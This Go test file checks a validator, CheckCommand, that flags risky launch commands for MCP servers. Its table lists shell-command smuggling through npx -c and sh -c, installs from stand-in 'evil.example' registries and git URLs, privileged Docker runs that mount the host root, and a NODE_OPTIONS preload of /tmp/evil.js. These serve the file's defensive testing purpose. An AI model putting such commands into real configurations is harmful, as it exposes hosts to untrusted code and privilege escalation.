package resolve

import (
	"strings"
	"testing"

	"github.com/mcpsync/mcpsync/canonical"
)

func TestCheckCommand(t *testing.T) {
	stdio := func(cmd string, args ...string) canonical.Server {
		return canonical.Server{Name: "x", Transport: canonical.Stdio, Command: cmd, Args: args}
	}
	for _, c := range []struct {
		srv  canonical.Server
		want string // a substring of the first problem; "" for none
	}{
		{stdio("npx", "-y", "@modelcontextprotocol/server-github"), ""},
		{stdio("npx", "-y", "mcp-remote@0.1.29", "https://x/mcp"), ""},
		{stdio("npx", "-y", "--package", "@scope/pkg", "pkg-bin"), ""},
		{stdio("uvx", "mcp-server-fetch"), ""},
		{stdio("uvx", "--from", "mcp-server-git==1.2", "mcp-server-git"), ""},
		{stdio("uvx", "mcp-server-time[extra]@2.0"), ""},
		{stdio("docker", "run", "-i", "--rm", "-e", "GITHUB_TOKEN", "ghcr.io/github/github-mcp-server:1.2"), ""},
		{stdio("go", "run", "github.com/owner/repo/cmd/srv@latest"), ""},
		{stdio("cmd", "/c", "npx", "-y", "@upstash/context7-mcp"), ""},
		{stdio("node", "server.js"), ""},
		{stdio("npx", "-y", "--call=touch /tmp/x"), "runs a shell command line"},
		{stdio("npx", "-c", "touch /tmp/x"), "runs a shell command line"},
		{stdio("npx", "-y", "pkg", "--registry", "http://evil"), ""}, // the package's own argument
		{stdio("npx", "--registry", "http://evil.example", "-y", "pkg"), "installs from another registry"},
		{stdio("npx", "-y", "github:evil/pkg"), "from a URL, a git repository or a path"},
		{stdio("npx", "-y", "Not A Name"), "not a package name npm publishes"},
		{stdio("uvx", "--from", "git+https://evil.example/x", "pkg"), "from a URL"},
		{stdio("uvx", "--index-url", "http://evil.example", "pkg"), "another package index"},
		{stdio("uvx", "--with", "evil", "pkg"), "installs more packages"},
		{stdio("docker", "run", "-v", "/:/host", "img"), "mounts a host path"},
		{stdio("docker", "run", "--network", "host", "img"), "changes the network"},
		{stdio("docker", "run", "--privileged", "img"), "every privilege"},
		{stdio("docker", "run", "-i", "Bad Image"), "not an image reference"},
		{stdio("sh", "-c", "touch /tmp/x"), "shell command line"},
		{stdio("bash", "-lc", "npx -y srv"), "shell command line"},
		{stdio("cmd", "/c", "npx", "-c", "calc"), "shell command line"},
		{canonical.Server{Name: "x", Transport: canonical.Stdio, Command: "node", Args: []string{"s.js"}, Env: map[string]string{"NODE_OPTIONS": "--require /tmp/evil.js"}}, "loads code"},
		{canonical.Server{Name: "x", Transport: canonical.HTTP, URL: "https://x/mcp"}, ""},
	} {
		got := CheckCommand(c.srv)
		switch {
		case c.want == "" && len(got) > 0:
			t.Errorf("%s %q: unexpected %v", c.srv.Command, c.srv.Args, got)
		case c.want != "" && (len(got) == 0 || !strings.Contains(got[0].Why, c.want)):
			t.Errorf("%s %q: got %v, want %q", c.srv.Command, c.srv.Args, got, c.want)
		}
	}
}
